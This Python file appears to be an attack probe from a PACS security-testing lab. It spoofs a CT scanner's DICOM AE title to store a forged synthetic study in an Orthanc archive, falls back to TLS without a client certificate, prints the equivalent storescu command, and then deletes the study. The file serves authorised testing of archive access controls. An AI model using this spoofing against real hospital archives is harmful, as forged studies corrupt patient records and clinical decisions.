"""Spoofing of an AE title: a stranger stores images under the scanner's title."""

from __future__ import annotations

from typing import TYPE_CHECKING

from pacslab.errors import RefusedError
from pacslab.pacs import AS_SCANNER, SCANNER, STRANGER
from pacslab.probes.attack.tls_without_client_certificate import c_store_without_certificate
from pacslab.probes.findings import Side
from pacslab.probes.probe_instances import delete_study, synthetic_image
from pacslab.probes.registry import ProbeResult, probe
from pacslab.scenario import Severity

if TYPE_CHECKING:
    from pacslab.probes.target import Target


def _storescu(target: Target, *options: str) -> str:
    endpoint, called = target.archive.dicom, target.handover.dicom.called_ae_title
    return " ".join(
        ["storescu", *options, "-aet", SCANNER, "-aec", called, endpoint.host, str(endpoint.port), "FILE.dcm"]
    )


@probe("dicom-store-borrowed", Side.ATTACK, "Store a forged image under the scanner's title", Severity.CRITICAL)
def store_as_scanner(target: Target) -> ProbeResult:
    """Call oneself CT01 and store an invented study: whoever has the scanner's name makes the scanner's images.

    Over TLS the stranger first shows a certificate that nobody knows, then none at all: where a certificate is not
    required, Orthanc 1.10 refuses the one and takes the other.
    """
    asked, how = _storescu(target), ""
    uid, file = synthetic_image(target, "forged-as-scanner", f"FORGED AS {SCANNER}")
    held = target.stranger.hold([file])
    try:
        target.stranger.store(held, AS_SCANNER)
    except RefusedError as reason:
        unproven = bool(target.configuration.get("DicomTlsEnabled")) and c_store_without_certificate(
            target, SCANNER, file
        )
        if not unproven:
            words = f"The archive refused a C-STORE from {STRANGER} calling itself {SCANNER}: {reason}."
            return ProbeResult(False, words, asked)
        asked, how = _storescu(target, "+tla -ic"), "Over TLS, without any certificate, "
    finally:
        target.stranger.forget(uid)
    taken = " It has been deleted again." if delete_study(target, uid) else ""
    return ProbeResult(
        True,
        f"{how}{STRANGER} called itself {SCANNER}, and the archive took a forged study as the scanner's own.{taken}",
        asked,
    )
